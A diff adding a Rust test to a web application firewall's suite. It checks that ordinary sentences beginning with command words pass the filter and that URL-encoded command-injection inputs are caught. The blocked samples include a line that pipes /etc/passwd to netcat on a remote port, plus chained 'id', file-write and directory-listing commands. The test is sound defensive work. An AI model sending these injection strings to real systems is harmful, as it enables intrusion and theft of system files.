@@ -367,3 +367,41 @@ fn windows_commands_need_arguments() {
         "regedit with a file",
     );
 }
+
+/// A sentence that starts with a word that is also a command (Node, Ruby,
+/// Echo, Timeout, ping, ...) and has a `;`, `|` or `&` further on is prose:
+/// the command-at-the-start rule needs command-like arguments first.
+#[test]
+fn prose_starting_with_a_command_word_passes() {
+    let w = waf();
+    for text in [
+        "Node is great; but Elixir wins",
+        "Ruby vs Elixir | which one?",
+        "Timeout errors; how to fix them",
+        "Echo chamber; a book review",
+        "ping me when free; thanks",
+        "Alias names & nicknames",
+        "Reboot of the series; season 2 is out",
+        "Grep the logs | look for errors",
+        "Env vars are set; deploy now",
+    ] {
+        let body = format!(
+            "post%5Bbody%5D={}",
+            text.replace(' ', "+")
+                .replace(';', "%3B")
+                .replace('&', "%26")
+                .replace('|', "%7C")
+        );
+        passes(&w, form(&w, &body), text);
+    }
+    for attack in [
+        "ping+-c+3+127.0.0.1%3B+id",
+        "cat+%2Fetc%2Fpasswd+%7C+nc+10.0.0.1+4444",
+        "echo+%27x%27+%3E+%2Ftmp%2Fx",
+        "ls+-la+%2F",
+        "ansible-vault+decrypt+secret%0A",
+        "node+app.js+%26",
+    ] {
+        caught(&w, form(&w, &format!("code={attack}")), attack);
+    }
+}
